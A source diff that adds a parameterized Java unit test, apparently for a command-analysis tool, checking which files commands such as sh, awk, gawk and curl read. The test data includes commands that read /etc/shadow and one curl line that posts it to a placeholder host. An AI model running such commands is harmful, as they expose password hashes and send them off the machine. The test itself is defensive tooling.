@@ -262,6 +262,20 @@ class CommandLineTest {
         .containsExactly(names.split(" "));
   }
 
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "/usr/bin/sh   | -c \"cat /etc/shadow; id\" /x | /x",
+        "/usr/bin/awk  | {print} /etc/shadow           | /etc/shadow",
+        "/usr/bin/gawk | -e {print} /etc/shadow        | /etc/shadow",
+        "/usr/bin/curl | -d @/etc/shadow https://h     | /etc/shadow",
+        "/usr/bin/curl | -o /tmp/x -K /etc/c https://h | /etc/c",
+      })
+  void codeAndAddressesAreNoFiles(String binary, String arguments, String reads) {
+    assertThat(of(binary, arguments).chain().getFirst().reads()).containsExactly(reads);
+  }
+
   @Test
   void commandIsLookedForWithItsOptions() {
     Command command = of("/usr/bin/base64", "--dec x").effective();
